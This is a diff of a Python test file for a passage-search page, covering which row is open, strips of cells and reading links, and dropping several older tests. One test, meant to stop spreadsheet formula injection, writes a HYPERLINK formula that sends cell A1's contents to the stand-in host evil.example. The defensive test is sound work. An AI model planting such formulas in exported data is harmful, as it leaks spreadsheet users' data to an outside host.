@@ -98,14 +98,14 @@ def test_the_nearest_passages_are_links_with_their_places(library, asked):
     assert rows[0]["position"].startswith("at ")
     assert "<b>whale</b>" in rows[0]["text"]
     assert opened(library, rows) == column("id", rows)
-    assert column("is_open", rows) == [True] + [False] * (len(rows) - 1)
+    assert asked.open_row == asked.opened == rows[0]["id"]
 
 
 def test_a_chosen_passage_is_open_in_the_same_list(library, asked):
     page = Page(library, target(asked.rows[2]["link"]))
 
     assert column("id", page.rows) == column("id", asked.rows)
-    assert column("is_open", page.rows).index(True) == 2
+    assert page.open_row == page.rows[2]["id"]
 
 
 def test_the_passages_of_one_document(library):
@@ -127,16 +127,6 @@ def test_more_rows(library, monkeypatch):
     assert len(page.rows) == 2
     assert column("id", more.rows[:2]) == column("id", page.rows)
     assert len(more.rows) == 4
-
-
-def test_the_nearest_documents_have_their_strips(library, asked):
-    page = Page(library, Address(q=QUESTION, view="documents"))
-
-    names = [library.names[index] for index, _ in page.answer.documents]
-    assert column("name", page.rows) == names
-    strip = asked.strip(page.answer.documents[0][0])
-    assert column("share", page.rows[0]["cells"]) == column("share", strip)
-    assert page.opened is None
 
 
 def test_a_strip_shows_the_highest_score_of_each_cell(library, asked):
@@ -172,8 +162,8 @@ def test_before_a_question_the_documents_are_listed_with_their_sizes(library):
     for row, document in zip(page.rows, range(3), strict=True):
         size = len(library.document(document).text.rstrip())
         assert row["position"] == f"{size:,} characters"
-        assert row["cells"] == []
-    assert page.opened is None
+    assert opened(library, page.rows) == library.starts[:-1].tolist()
+    assert page.open_row == page.opened == 0
 
 
 def test_a_document_is_read_from_its_beginning(library):
@@ -183,8 +173,17 @@ def test_a_document_is_read_from_its_beginning(library):
 
     assert html.unescape(reading["text"]).startswith(KITCHEN[:100])
     assert "<mark>" not in reading["text"]
-    assert "previous" not in reading
-    assert Page(library, target(reading["next"])).opened == library.starts[1] + 1
+
+
+def test_before_a_question_a_strip_leads_to_all_parts_of_a_document(library):
+    page = Page(library, Address(document="kitchen.txt"))
+
+    cells = page.strip(1)
+
+    passages = np.arange(*library.starts[1:3]).tolist()
+    assert opened(library, cells) == passages
+    assert set(column("share", cells)) == {"0.00"}
+    assert Page(library, target(cells[-1]["link"])).open_row == library.starts[1]
 
 
 def test_the_text_shows_a_passage_in_its_context(library):
@@ -197,7 +196,7 @@ def test_the_text_shows_a_passage_in_its_context(library):
     text = reading["text"]
     assert html.unescape(re.search("(?s)<mark>(.*)</mark>", text)[1]) == passage.text
     assert html.unescape(re.sub("</?mark>", "", text)) == KITCHEN
-    assert Page(library, target(reading["previous"])).opened == library.starts[1] + 2
+    assert reading["has_end"]
 
 
 def test_a_long_passage_in_a_long_line_is_shown_in_part(library, monkeypatch):
@@ -208,10 +207,11 @@ def test_a_long_passage_in_a_long_line_is_shown_in_part(library, monkeypatch):
     passage = library.passage(0)._replace(start=10_002, end=200_000)
     monkeypatch.setattr(library, "passage", lambda index: passage)
 
-    shown = Page(library, Address(q="whale", document="sea.txt")).reading()["text"]
+    reading = Page(library, Address(q="whale", document="sea.txt")).reading()
 
-    assert 20_000 < len(shown) < 25_000
-    assert shown.startswith("word ")
+    assert 20_000 < len(reading["text"]) < 25_000
+    assert reading["text"].startswith("word ")
+    assert not reading["has_end"]
 
 
 def test_the_table_of_passages_is_read_by_a_library(library, asked):
@@ -230,7 +230,7 @@ def test_no_cell_of_the_table_is_computed(library, monkeypatch, first):
     """Spreadsheets compute a cell that begins so, and texts, names and questions are strangers'."""
     formula = f'{first}HYPERLINK("http://evil.example/?"&A1, "whale")'
     page = Page(library, Address(q=f"{formula} whale"))
-    page.answer = page.answer._replace(score=-np.abs(page.answer.score))
+    page.score = -np.abs(page.score)
     monkeypatch.setattr(library, "names", [formula] * 3)
     passage = library.passage(0)._replace(text=formula)
     monkeypatch.setattr(library, "passage", lambda index: passage)
@@ -243,29 +243,3 @@ def test_no_cell_of_the_table_is_computed(library, monkeypatch, first):
         assert position.startswith("at ")
         assert characters.startswith("characters ")
         assert float(score) <= 0  # stays a number
-
-
-def test_the_examples_are_telling_words_of_the_folder(library):
-    examples = Page(library, Address()).examples()
-
-    texts = [library.document(document).text for document in range(3)]
-    assert len(examples) == 3
-    for example, text in zip(examples, texts, strict=True):
-        assert len(example.split()) == 3
-        for word in example.split():
-            assert word in text
-
-
-def test_the_examples_are_no_headings(toy_checkpoint, tmp_path):
-    """Words in capitals, numbers and runs of punctuation are none."""
-    heading = "THE WHARVES OF CHAPTER 12 ...... 345 = = = = ________ "
-    text = "The captain mends nets near the lighthouse. " * 5
-    (tmp_path / "a.txt").write_text(heading * 20 + text)
-    reading = ReadingOptions(cache_dir=tmp_path / "cache")
-    model = NextLevelBertModel.from_pretrained(toy_checkpoint)
-    page = Page(Library(open_store(str(tmp_path / "a.txt"), model, reading)), Address())
-
-    examples = page.examples()
-
-    words = {word for example in examples for word in example.split()}
-    assert words <= {"captain", "mends", "lighthouse"}
